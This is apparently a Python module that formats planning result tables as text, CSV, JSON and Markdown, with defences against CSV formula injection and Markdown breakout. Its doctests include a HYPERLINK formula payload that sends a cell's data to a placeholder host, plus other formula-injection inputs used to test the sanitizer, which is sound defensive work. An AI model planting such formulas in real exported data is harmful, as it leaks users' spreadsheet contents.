"""Rendering result tables: terminal text, CSV, JSON and Markdown, written safely.

Terminal tables and Markdown round figures for reading (areas to 4 decimals of
km², i.e. 100 m²; percentages to 2 decimals; distances to 0.1 m); CSV and JSON
keep full precision. Missing figures print as ``-`` (text) or ``null`` (JSON).
Files are written through :mod:`spatial.io.atomic`, never half-written.

Cells come from the planner's files and may be hostile. CSV and Markdown
cells whose text a spreadsheet would run as a formula get a leading ``'``
(:func:`spreadsheet_safe`, OWASP's CSV-injection advice); numbers stay numbers
and JSON keeps the text exact. Terminal tables and Markdown show control
characters as escapes (:func:`~spatial.errors.printable`), and Markdown cells
cannot open HTML tags or break out of their column.

Examples
--------
>>> import pandas as pd
>>> frame = pd.DataFrame({"id": ["zone-kcxz"], "area_km2": [15.000281], "status": ["PASS"]})
>>> print(format_table(frame))
id         area_km2  status
---------  --------  ------
zone-kcxz   15.0003  PASS
>>> print(format_markdown(frame))
| id | area_km2 | status |
|---|---:|---|
| zone-kcxz | 15.0003 | PASS |
"""

from __future__ import annotations

import io
import json
import math
import os
import sys
import unicodedata
from collections.abc import Callable
from typing import Any

import numpy as np
import pandas as pd

from spatial.errors import printable
from spatial.formats import FORMATS
from spatial.io.atomic import write_text_atomic

__all__ = [
    "FORMULA_STARTS",
    "emit",
    "format_csv",
    "format_frame",
    "format_json",
    "format_markdown",
    "format_table",
    "records",
    "spreadsheet_safe",
]

#: First characters that make Excel, WPS or LibreOffice read a cell as a formula
#: (OWASP, "CSV Injection": = + - @, tab and carriage return).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_MARKDOWN_ESCAPES = str.maketrans({"|": "\\|", "<": "\\<", ">": "\\>"})


def spreadsheet_safe(value: Any) -> Any:
    r"""Return a text cell a spreadsheet would run as a formula with a leading ``'``.

    Anything that is not a string (numbers, missing values) is returned unchanged.

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x?d="&A2,"click")')
    '\'=HYPERLINK("http://x?d="&A2,"click")'
    >>> spreadsheet_safe("-2+3"), spreadsheet_safe(-2.5), spreadsheet_safe("zone-kcxz")
    ("'-2+3", -2.5, 'zone-kcxz')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _display_width(text: str) -> int:
    """Terminal columns taken by ``text``: CJK (wide) characters take two."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def _pad(text: str, width: int, right: bool) -> str:
    fill = " " * (width - _display_width(text))
    return fill + text if right else text + fill


def _decimals(column: str) -> int:
    if column.endswith("_pct"):
        return 2
    if column.endswith("_m") or column == "dist_m":
        return 1
    return 4


def _cell(value: Any, column: str) -> str:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return "-"
    if isinstance(value, bool | np.bool_):
        return str(bool(value))
    if isinstance(value, float | np.floating):
        text = f"{float(value):.{_decimals(column)}f}"
        # -0.0003 shown at 2 decimals is 0.00, not "-0.00" (a sign with nothing behind it)
        return text[1:] if text.startswith("-") and not text.strip("-0.") else text
    return str(value)


def _is_numeric(frame: pd.DataFrame, column: str) -> bool:
    return pd.api.types.is_numeric_dtype(frame[column]) and not pd.api.types.is_bool_dtype(
        frame[column]
    )


def format_table(frame: pd.DataFrame) -> str:
    """Render ``frame`` as an aligned plain-text table (numbers right-aligned, text printable)."""
    columns = [printable(c) for c in frame.columns]
    cells = [
        [printable(_cell(v, c)) for v, c in zip(row, columns, strict=True)]
        for row in frame.itertuples(index=False)
    ]
    widths = [
        max([_display_width(c), *(_display_width(r[i]) for r in cells)])
        for i, c in enumerate(columns)
    ]
    right = [_is_numeric(frame, c) for c in frame.columns]
    lines = [  # headings aligned as their numbers are
        "  ".join(_pad(c, w, r) for c, w, r in zip(columns, widths, right, strict=True)).rstrip(),
        "  ".join("-" * w for w in widths),
    ]
    lines += [
        "  ".join(_pad(v, w, r) for v, w, r in zip(row, widths, right, strict=True)).rstrip()
        for row in cells
    ]
    return "\n".join(lines)


def _markdown_cell(value: Any, column: str) -> str:
    text = _cell(value, column)
    if isinstance(value, str):
        text = spreadsheet_safe(text)
    return printable(text).translate(_MARKDOWN_ESCAPES)


def format_markdown(frame: pd.DataFrame) -> str:
    r"""Render ``frame`` as a GitHub-flavoured Markdown table.

    ``|``, ``<`` and ``>`` in cells are backslash-escaped (shown as typed, never
    a column break or an HTML tag), control characters are shown as escapes
    and formula-like text gets a leading ``'``.

    Examples
    --------
    >>> print(format_markdown(pd.DataFrame({"id": ["=1+1", "<b>|x"], "n": [-1.0, 2.0]})))
    | id | n |
    |---|---:|
    | '=1+1 | -1.0000 |
    | \<b\>\|x | 2.0000 |
    """
    columns = [str(c) for c in frame.columns]
    align = ["---:" if _is_numeric(frame, c) else "---" for c in frame.columns]

    def line(values: list[str]) -> str:
        return "| " + " | ".join(values) + " |"

    rows = [
        line([_markdown_cell(v, c) for v, c in zip(row, columns, strict=True)])
        for row in frame.itertuples(index=False)
    ]
    heading = line([_markdown_cell(c, "") for c in frame.columns])
    return "\n".join([heading, "|" + "|".join(align) + "|", *rows])


def format_csv(frame: pd.DataFrame) -> str:
    r"""Render ``frame`` as CSV (UTF-8 text, full precision, empty cells for missing values).

    Text cells and headings a spreadsheet would run as a formula get a leading
    ``'`` (:func:`spreadsheet_safe`); numbers are written as numbers. Rows end
    in CRLF (RFC 4180), so a cell holding a lone CR or LF is quoted: a
    spreadsheet cannot split it into a new row whose cell is a formula.

    Examples
    --------
    >>> format_csv(pd.DataFrame({"id": ["@SUM(A1)", "x\r=1"], "d": [-2.5, 1]}))
    'id,d\r\n\'@SUM(A1),-2.5\r\n"x\r=1",1.0\r\n'
    """
    safe = frame.copy(deep=False)
    safe.columns = [spreadsheet_safe(str(c)) for c in frame.columns]
    for position, column in enumerate(frame.columns):
        if not _is_numeric(frame, column) and not pd.api.types.is_bool_dtype(frame[column]):
            safe.isetitem(position, frame[column].map(spreadsheet_safe).to_numpy())
    buffer = io.StringIO()
    safe.to_csv(buffer, index=False, lineterminator="\r\n")
    return buffer.getvalue()


def records(frame: pd.DataFrame) -> list[dict[str, Any]]:
    """Return the rows of ``frame`` as JSON-ready dicts (numpy scalars unwrapped, NaN -> None)."""
    clean = frame.astype(object).where(frame.notna(), None)
    return [
        {str(k): (v.item() if isinstance(v, np.generic) else v) for k, v in row.items()}
        for row in clean.to_dict("records")
    ]


def format_json(data: Any) -> str:
    """Render ``data`` (a DataFrame, or any JSON-ready object) as indented UTF-8 JSON."""
    if isinstance(data, pd.DataFrame):
        data = records(data)
    return json.dumps(data, ensure_ascii=False, indent=2, allow_nan=False) + "\n"


def format_frame(frame: pd.DataFrame, fmt: str) -> str:
    """Render one table in ``fmt`` (one of :data:`FORMATS`)."""
    renderers: dict[str, Callable[[pd.DataFrame], str]] = {
        "table": lambda f: format_table(f) + "\n",
        "csv": format_csv,
        "json": format_json,
        "markdown": lambda f: format_markdown(f) + "\n",
    }
    if fmt not in renderers:
        raise ValueError(f"unknown format {fmt!r}; choose one of {', '.join(FORMATS)}")
    return renderers[fmt](frame)


def emit(text: str, out: str | os.PathLike[str] | None) -> None:
    """Print ``text`` to standard output, or write it atomically to ``out`` (UTF-8)."""
    if out is None:
        sys.stdout.write(text)
    else:
        write_text_atomic(out, text)
